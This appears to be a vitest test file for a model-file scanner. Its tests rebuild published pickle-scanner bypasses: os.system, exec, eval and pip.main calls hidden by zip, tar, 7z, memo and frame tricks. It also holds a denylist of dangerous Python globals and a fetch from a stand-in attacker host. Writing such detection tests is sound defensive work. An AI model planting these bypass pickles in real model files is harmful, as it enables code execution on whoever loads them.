import { describe, expect, it } from 'vitest';
import { buildSevenZipCopy } from './archive/test-support/sevenzip-builder.js';
import { buildTar } from './archive/test-support/tar-builder.js';
import { buildZip } from './archive/test-support/zip-builder.js';
import { Op } from './pickle/opcodes.js';
import { torchStateDictPickle } from './pickle/test-support/ecosystem-pickles.js';
import { PickleWriter } from './pickle/test-support/pickle-writer.js';
import { globalsOf, scanBytes } from './test-support/scan-bytes.js';

// One test per published bypass of ../shared/notes/model-scanning.md §3 (the pickle family),
// each built from its mechanism. Keras, GGUF and ONNX bypasses are tested by their scanners.

const w = () => new PickleWriter();
/** `module.name(arg)` via STACK_GLOBAL, protocol 4. */
const call4 = (module: string, name: string, arg = 'true') => w().proto(4).call(module, name, arg).stop().bytes();
const torchZip = (dataPkl: Uint8Array, extra: Parameters<typeof buildZip>[0] = []) =>
  buildZip([{ name: 'archive/data.pkl', data: dataPkl }, { name: 'archive/byteorder', data: 'little' }, { name: 'archive/data/0', data: new Uint8Array(16) }, { name: 'archive/version', data: '3\n' }, ...extra]);
const osSystem2 = () => w().proto(2).global('os', 'system').binUnicode('true').tuple1().reduce().stop().bytes();

describe('published pickle-family bypasses', () => {
  it('pip.main is critical (CVE-2025-1716)', () => {
    const bytes = w().proto(4).shortBinUnicode('pip').shortBinUnicode('main').stackGlobal().emptyList().shortBinUnicode('install').append().tuple1().reduce().stop().bytes();
    const scan = scanBytes('model.pkl', bytes);
    expect(scan.worst).toBe('critical');
    expect(globalsOf(scan)).toContain('pip.main');
  });

  it('a pickle with a non-standard extension inside a zip is found by content (CVE-2025-1889)', () => {
    const zip = buildZip([{ name: 'archive/data.pkl', data: torchStateDictPickle() }, { name: 'archive/extra/weights.dat', data: osSystem2() }]);
    const scan = scanBytes('model.pt', zip);
    expect(scan.findings).toContainEqual(expect.objectContaining({ rule: 'dangerous-import', severity: 'critical', location: expect.objectContaining({ member: 'archive/extra/weights.dat' }) }));
  });

  it('a local-header name that differs from the central directory is reported and both are analysed (CVE-2025-1944)', () => {
    const zip = buildZip([{ name: 'archive/data.pkl', localName: 'archive/readme.txt', data: osSystem2() }]);
    const scan = scanBytes('model.pt', zip);
    expect(scan.rules).toContain('zip-name-mismatch');
    expect(scan.worst).toBe('critical');
  });

  it('encryption and patched-data flag bits do not stop the analysis (CVE-2025-1945)', () => {
    const zip = buildZip([{ name: 'archive/data.pkl', flags: 0x1 | 0x20, data: osSystem2() }]);
    const scan = scanBytes('model.pt', zip);
    expect(scan.rules).toContain('zip-flag-bits');
    expect(scan.findings).toContainEqual(expect.objectContaining({ rule: 'dangerous-import', location: expect.objectContaining({ member: 'archive/data.pkl' }) }));
  });

  it('nullifAI (a): a PyTorch archive wrapped in 7z is high, incomplete, and its stored content still analysed', () => {
    const inner = buildZip([{ name: 'a/data.pkl', data: w().proto(2).global('__builtin__', 'exec').binUnicode('pass').tuple1().reduce().stop().bytes() }]);
    const scan = scanBytes('model.7z.bin', buildSevenZipCopy(inner, 'a.pt'));
    expect(scan.rules).toContain('sevenzip-archive');
    expect(scan.status).toBe('incomplete');
    expect(scan.worst).toBe('critical');
  });

  it('nullifAI (b): a payload before a deliberate break is reported and the target is incomplete', () => {
    const bytes = w().proto(2).global('__builtin__', 'exec').binUnicode('pass').tuple1().reduce().pop().global('collections', 'OrderedDict').emptyTuple().reduce().mark().binUnicode('w').raw([0xff, 0xfe, 0x00]).bytes();
    const scan = scanBytes('model.pkl', bytes);
    expect(scan.worst).toBe('critical');
    expect(scan.rules).toContain('broken-stream');
    expect(scan.status).toBe('incomplete');
  });

  it('a plain pickle named like a PyTorch file is analysed as a pickle (CVE-2025-10155)', () => {
    const scan = scanBytes('pytorch_model.bin', osSystem2());
    expect(scan.scanner).toBe('model:pickle');
    expect(scan.worst).toBe('critical');
    expect(scan.rules).toContain('extension-mismatch');
  });

  it('a wrong zip CRC is reported and the member still analysed (CVE-2025-10156)', () => {
    const zip = buildZip([{ name: 'archive/data.pkl', data: osSystem2(), crc: 0xdeadbeef }]);
    const scan = scanBytes('model.pt', zip);
    expect(scan.rules).toContain('zip-crc-mismatch');
    expect(scan.worst).toBe('critical');
  });

  it('a submodule of a denylisted module inherits its severity (CVE-2025-10157)', () => {
    const scan = scanBytes('model.pkl', call4('asyncio.unix_events', '_UnixSubprocessTransport._start'));
    expect(scan.findings).toContainEqual(expect.objectContaining({ rule: 'dangerous-import', severity: 'critical', evidence: expect.objectContaining({ global: 'asyncio.unix_events._UnixSubprocessTransport._start' }) }));
  });

  it('STACK_GLOBAL operands at the very start of the stream and from protocol-0 STRING are resolved (GHSA-9gvj-pp9x-gcfr)', () => {
    const first = scanBytes('a.pkl', w().shortBinUnicode('os').shortBinUnicode('system').stackGlobal().binUnicode('true').tuple1().reduce().stop().bytes());
    const strings = scanBytes('b.pkl', w().string("'os'").string("'system'").stackGlobal().mark().string("'true'").tuple().reduce().stop().bytes());
    expect(globalsOf(first)).toContain('os.system');
    expect(globalsOf(strings)).toContain('os.system');
  });

  it('memo indirection, invalid memo keys and memo type confusion neither hide the import nor crash the scanner', () => {
    const indirect = w().proto(4).shortBinUnicode('os').binPut(1).pop().shortBinUnicode('system').longBinPut(0xffffffff).pop().binGet(1).longBinGet(0xffffffff).stackGlobal().binUnicode('true').tuple1().reduce().stop().bytes();
    const invalid = w().proto(4).binGet(7).shortBinUnicode('x').stackGlobal().call('posix', 'system', 'true').stop().bytes();
    const confused = w().proto(4).binInt(5).binPut(0).shortBinUnicode('system').binGet(0).stackGlobal().stop().bytes();
    expect(globalsOf(scanBytes('a.pkl', indirect))).toContain('os.system');
    expect(scanBytes('b.pkl', invalid).worst).toBe('critical');
    const scan = scanBytes('c.pkl', confused);
    expect(scan.rules).toContain('broken-stream');
    expect(scan.status).toBe('incomplete');
  });

  it.each([
    ['functools', 'partial'],
    ['pydoc', 'pipepager'],
    ['torch._inductor.codecache', 'compile_file'],
    ['torch.utils.collect_env', 'run'],
    ['trace', 'Trace'],
    ['profile', 'run'],
    ['cProfile', 'runctx'],
    ['idlelib.pyshell', 'ModifiedInterpreter'],
    ['ctypes', 'CDLL'],
    ['numpy.f2py', 'run_main'],
    ['operator', 'itemgetter'],
    ['operator', 'methodcaller'],
    ['_io', 'FileIO'],
    ['urllib.request', 'urlopen'],
    ['cloudpickle', 'loads'],
    ['types', 'CodeType'],
    ['logging', 'FileHandler'],
    ['pkgutil', 'resolve_name'],
    ['uuid', '_get_command_stdout'],
    ['imaplib', 'IMAP4_stream'],
    ['_osx_support', '_read_output'],
    ['_aix_support', '_read_cmd_output'],
    ['_pyrepl.pager', 'pipe_pager'],
  ])('the denylist long tail names %s.%s critical (picklescan and fickling advisories)', (module, name) => {
    const scan = scanBytes('model.pkl', call4(module, name));
    expect(scan.findings).toContainEqual(expect.objectContaining({ rule: 'dangerous-import', severity: 'critical', evidence: expect.objectContaining({ global: `${module}.${name}` }) }));
  });

  it('marshal.loads + types.FunctionType builds a function from bytecode (fickling GHSA-565g-hwwr-4pp3)', () => {
    const bytes = w().proto(4).frame(0).shortBinUnicode('marshal').shortBinUnicode('loads').stackGlobal().memoize().binGet(0).shortBinBytes(Uint8Array.of(0xe3, 0, 0, 0)).tuple1().reduce().memoize()
      .shortBinUnicode('types').shortBinUnicode('FunctionType').stackGlobal().memoize().binGet(2).binGet(1).emptyDict().tuple2().reduce().memoize().binGet(3).emptyTuple().reduce().stop().bytes();
    const scan = scanBytes('model.pkl', bytes);
    expect(globalsOf(scan)).toEqual(expect.arrayContaining(['marshal.loads', 'types.FunctionType']));
    expect(scan.rules).toContain('computed-call');
  });

  it('a dotted name through an allowed module reaches os.system (fickling GHSA-5j3x-jp52-966f)', () => {
    const scan = scanBytes('model.pkl', call4('pathlib', 'os.system'));
    expect(scan.findings).toContainEqual(expect.objectContaining({ rule: 'dangerous-import', severity: 'critical', evidence: expect.objectContaining({ global: 'pathlib.os.system', category: 'process' }) }));
    expect(scanBytes('b.pkl', call4('collections', 'OrderedDict.__init__.__globals__')).worst).toBe('critical');
  });

  it('builtins.__import__ + getattr is followed to the callable it reaches (fickling GHSA-h4rm-mm56-xf63)', () => {
    const bytes = w().proto(2).global('builtins', 'getattr').global('builtins', '__import__').binUnicode('os').tuple1().reduce().binUnicode('system').tuple2().reduce().binUnicode('true').tuple1().reduce().stop().bytes();
    const scan = scanBytes('model.pkl', bytes);
    const reached = scan.findings.find((f) => f.evidence?.['global'] === 'os.system');
    expect(reached).toMatchObject({ severity: 'critical', evidence: { opcode: 'builtins.getattr' } });
    expect(reached?.message).toContain("os.system(\"true\",)");
  });

  it('a call whose result is popped by OBJ + POP is still found (fickling GHSA-mxhj-88fx-4pcv)', () => {
    const bytes = w().mark().global('os', 'system').string("'true'").obj().pop().emptyDict().stop().bytes();
    expect(globalsOf(scanBytes('model.pkl', bytes))).toContain('os.system');
  });

  it('a GLOBAL hidden behind a FRAME-boundary divergence is found (fickling test_frame_boundary_divergence)', () => {
    // Linear readers see BINBYTES of 0x107 bytes; a file unpickler drops the rest of the 2-byte
    // frame, reads length 1 from the next four bytes, and runs the opcodes that follow.
    const hidden = w().global('os', 'system').mark().string("'true'").tuple().reduce().stop().bytes();
    const payload = new Uint8Array(0x107);
    payload.set([0x00, 0x41], 0);
    payload.set(hidden, 2);
    const bytes = w().proto(4).frame(2).op(Op.BINBYTES, 0x07).raw([0x01, 0x00, 0x00]).raw(payload).stop().bytes();
    const scan = scanBytes('model.pkl', bytes);
    expect(scan.rules).toContain('frame-violation');
    expect(scan.findings).toContainEqual(expect.objectContaining({ rule: 'dangerous-import', severity: 'critical', evidence: expect.objectContaining({ global: 'os.system', frameDivergence: true }) }));
  });

  it('an allowlisted-module gadget (numpy.size + numpy.__builtins__ + BUILD) is caught (modelscan#330)', () => {
    const bytes = w().proto(4).shortBinUnicode('numpy').shortBinUnicode('size').stackGlobal().memoize().emptyDict().shortBinUnicode('shape')
      .shortBinUnicode('numpy').shortBinUnicode('__builtins__').stackGlobal().setItem().build().binGet(0).binGet(0).shortBinUnicode('eval').tuple2().reduce().stop().bytes();
    const scan = scanBytes('model.pkl', bytes);
    expect(scan.findings).toContainEqual(expect.objectContaining({ rule: 'dangerous-import', evidence: expect.objectContaining({ global: 'numpy.__builtins__', category: 'dunder' }) }));
    expect(scan.rules).toContain('state-tampering');
  });

  it.each([
    ['torch.utils.collect_env', 'run'],
    ['multiprocessing.util', 'spawnv_passfds'],
    ['mlflow.projects.backend.local', '_run_entry_point'],
    ['pandas', 'read_csv'],
  ])('modelscan false negative %s.%s is critical (modelscan#338)', (module, name) => {
    expect(scanBytes('model.pkl', call4(module, name, 'https://attacker.example/x.csv')).worst).toBe('critical');
  });

  it('a PyTorch legacy file whose magic-number pickle computes the magic with eval is critical (GHSA-97f8-7cmv-76j2)', () => {
    const magic = w().proto(2).global('builtins', 'eval').binUnicode('0x1950a86a20f9469cfc6c').tuple1().reduce().stop();
    const rest = w().proto(2).binInt(1001).stop().proto(2).emptyDict().stop().proto(2).emptyDict().stop().proto(2).emptyList().stop();
    const scan = scanBytes('model.pt', Uint8Array.from([...magic.bytes(), ...rest.bytes()]));
    expect(globalsOf(scan)).toContain('builtins.eval');
    expect(scan.worst).toBe('critical');
  });

  it('the legacy tar format that bypassed weights_only is analysed member by member (CVE-2025-32434)', () => {
    const count = w().proto(2).binInt(1).stop().bytes();
    const args = w().proto(2).binUnicode('0').binUnicode('cpu').global('torch', 'FloatStorage').tuple3().stop().bytes();
    const storages = Uint8Array.from([...count, ...args, 4, 0, 0, 0, 0, 0, 0, 0, ...new Uint8Array(16)]);
    const tar = buildTar([
      { name: 'sys_info', data: w().proto(2).emptyDict().stop().bytes() },
      { name: 'pickle', data: osSystem2() },
      { name: 'storages', data: storages },
      { name: 'tensors', data: w().proto(2).binInt(0).stop().bytes() },
    ]);
    const scan = scanBytes('model.tar', tar);
    expect(scan.findings).toContainEqual(expect.objectContaining({ rule: 'dangerous-import', location: expect.objectContaining({ member: 'pickle' }) }));
    expect(scan.status).toBe('complete');
  });

  it('a legacy storage that declares more data than exists is incomplete, not a crash (CVE-2026-24747 class)', () => {
    const count = w().proto(2).binInt(1).stop().bytes();
    const args = w().proto(2).binUnicode('0').binUnicode('cpu').global('torch', 'FloatStorage').tuple3().stop().bytes();
    const storages = Uint8Array.from([...count, ...args, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x0f]);
    const scan = scanBytes('model.tar', buildTar([{ name: 'pickle', data: torchStateDictPickle() }, { name: 'storages', data: storages }]));
    expect(scan.status).toBe('incomplete');
    expect(scan.message).toMatch(/raw data/);
  });

  it('torchZip fixtures are clean (control for the zip cases above)', () => {
    expect(scanBytes('model.pt', torchZip(torchStateDictPickle()))).toMatchObject({ findings: [], status: 'complete' });
  });
});
